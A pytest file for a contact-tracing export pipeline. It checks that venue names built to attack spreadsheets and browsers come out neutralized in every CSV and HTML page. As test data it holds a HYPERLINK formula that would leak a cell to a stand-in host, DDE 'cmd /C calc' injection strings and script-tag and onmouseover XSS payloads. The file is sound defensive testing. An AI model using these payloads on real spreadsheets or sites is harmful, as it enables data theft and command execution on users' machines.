"""Venues and districts named to attack a spreadsheet or a browser, through every file a traced day writes.

The hand-made lake of tests/outputs_lake.py is traced as usual, then its venues
are registered again under hostile names (a later offset wins), with extra
never-visited venues so each formula start has a venue of its own. Every CSV
under the lake root must then be formula-safe and every HTML page must show
the names as text.
"""

import csv
import re
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from jobs.publish.day import export_day
from schemas.lake import RAW
from tests.outputs_lake import DAY, PEOPLE, build_lake
from tracelake.core.rules import load_rules

FORMULA = '=HYPERLINK("http://x/?"&C2,"xem")'
HTML_DISTRICT = "<script>alert(1)</script>\" onmouseover=\"alert('760')\" & Q&amp;"
FORMULA_DISTRICT = "=1+1"

# venue_id, name, district, kind, the name as a CSV cell must read
VENUES: list[tuple[str, str, str, str, str]] = [
    ("V-MARKET", FORMULA, HTML_DISTRICT, "market", "'" + FORMULA),
    ("V-CAFE", "+1+cmd|' /C calc'!A0", "770", "cafe", "'+1+cmd|' /C calc'!A0"),
    ("V-COOP", "@SUM(1+1)*cmd|' /C calc'!A0", "770", "shop", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("V-MINUS", "-2+3+cmd|' /C calc'!A0", FORMULA_DISTRICT, "=kind()", "'-2+3+cmd|' /C calc'!A0"),
    ("V-TAB", "\t=1+1", "770", "cafe", "'\t'=1+1"),
    ("V-CR", "\r=1+1", "770", "cafe", "'\r'=1+1"),
    ("V-BLANK", ' "=1+1"', "770", "cafe", '\' "=1+1"'),
    ("V-SEP", "Quán 1; =1+1", "770", "cafe", "Quán 1;' =1+1"),
    ("V-HTML", "<script>alert('x')</script> & \"Quán\"", "770", "cafe", "<script>alert('x')</script> & \"Quán\""),
]

PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
CELL_SEPARATORS = re.compile(r"[,;\t\r\n]")


def _register_hostile_venues(lake: Path) -> None:
    rows = [
        {"event_id": f"hostile-{index}", "venue_id": venue_id, "name": name, "district_code": district,
         "province_code": "79", "kind": kind, "lat": 10.78 + index / 100, "lon": 106.69,
         "kafka_topic": "venues", "kafka_partition": 0, "kafka_offset": 100 + index}
        for index, (venue_id, name, district, kind, _cell) in enumerate(VENUES)
    ]
    directory = lake / "raw" / "venues" / "date=2021-07-21"
    directory.mkdir(parents=True)
    table = pa.Table.from_pylist(rows, schema=RAW["venues"])
    pq.write_table(table, directory / "venues+0+00000000000000000100.parquet")


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    lake, vault = build_lake(root)
    _register_hostile_venues(lake)
    export_day(str(lake), DAY, load_rules(), vault=str(vault))
    return lake


def _csv_files(lake: Path) -> list[Path]:
    return sorted(lake.parent.rglob("*.csv"))


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def _cells(lake: Path) -> list[tuple[Path, str]]:
    return [(path, cell) for path in _csv_files(lake) for row in _read(path) for cell in row]


def _formula_risk(cell: str) -> bool:
    """A spreadsheet could start a formula in this cell, or in a piece of it a separator cuts off."""
    if cell.startswith(("\t", "\r")):
        return True
    for piece in CELL_SEPARATORS.split(cell):
        bare = piece.lstrip(' \t\r\n\u00a0"')
        if bare[:1] in ("=", "+", "-", "@") and not PLAIN_NUMBER.fullmatch(bare.strip().strip('"')):
            return True
    return False


def test_the_day_wrote_the_csv_files_of_every_output(lake: Path) -> None:
    names = {path.name for path in _csv_files(lake)}
    assert {"worklist.csv", "notices_public.csv", "notices_tracers.csv", "districts.csv", "silent_venues.csv",
            "trend.csv", "venue_risk.csv"} <= names


def test_no_csv_cell_can_start_a_formula(lake: Path) -> None:
    risky = [(path.relative_to(lake.parent).as_posix(), cell) for path, cell in _cells(lake) if _formula_risk(cell)]
    assert risky == []


def test_every_hostile_name_is_written_neutralized(lake: Path) -> None:
    cells = {cell for _path, cell in _cells(lake)}
    for _venue_id, name, _district, _kind, written in VENUES:
        assert written in cells, name
    assert "'" + FORMULA_DISTRICT in cells
    assert "'=kind()" in cells
    assert FORMULA not in cells


def test_every_csv_row_keeps_its_columns(lake: Path) -> None:
    """A CR inside a name is quoted, so it cannot end the row early."""
    for path in _csv_files(lake):
        header, *rows = _read(path)
        assert all(len(row) == len(header) for row in rows), path


def test_phone_numbers_stay_as_the_tracer_dials_them(lake: Path) -> None:
    phones = {
        row["phone_or_citizen_id"]: row["phone_to_dial"]
        for path in _csv_files(lake) if path.name == "worklist.csv"
        for row in csv.DictReader(path.open(encoding="utf-8-sig", newline=""))
    }
    assert phones["+84910000003"] == "0910 000 003"
    assert set(phones) <= set(PEOPLE.values())


def test_the_parquet_twins_keep_the_raw_names(lake: Path) -> None:
    venues = {
        value
        for path in lake.rglob("worklist.parquet")
        for value in pq.read_table(path, columns=["venues"]).column("venues").to_pylist()
    }
    assert FORMULA in venues
    assert "'" + FORMULA not in venues


class _Page(HTMLParser):
    """What a browser would see: the elements, attribute names, and the text and attribute values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.strings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for key, value in attrs:
            self.attributes.add(key)
            self.strings.append(value or "")

    def handle_data(self, data: str) -> None:
        self.strings.append(data)


def _pages(lake: Path) -> dict[str, _Page]:
    pages = {}
    for path in sorted(lake.rglob("*.html")):
        if "validation" in path.relative_to(lake).parts:
            continue
        page = _Page()
        page.feed(path.read_text(encoding="utf-8"))
        page.close()
        pages[path.relative_to(lake).as_posix()] = page
    return pages


def test_every_page_shows_the_hostile_names_as_text(lake: Path) -> None:
    pages = _pages(lake)
    assert {"reports/date=2021-08-03/index.html", "reports/date=2021-08-03/map.html"} <= set(pages)
    for name, page in pages.items():
        assert "script" not in page.tags, name
        assert not any(attribute.startswith("on") for attribute in page.attributes), name
        assert any(HTML_DISTRICT in text for text in page.strings), name


def test_no_page_source_holds_a_raw_tag_from_a_name(lake: Path) -> None:
    for path in lake.rglob("*.html"):
        if "validation" not in path.relative_to(lake).parts:
            source = path.read_text(encoding="utf-8")
            assert "<script" not in source.lower(), path
            assert "&amp;amp;" in source, path
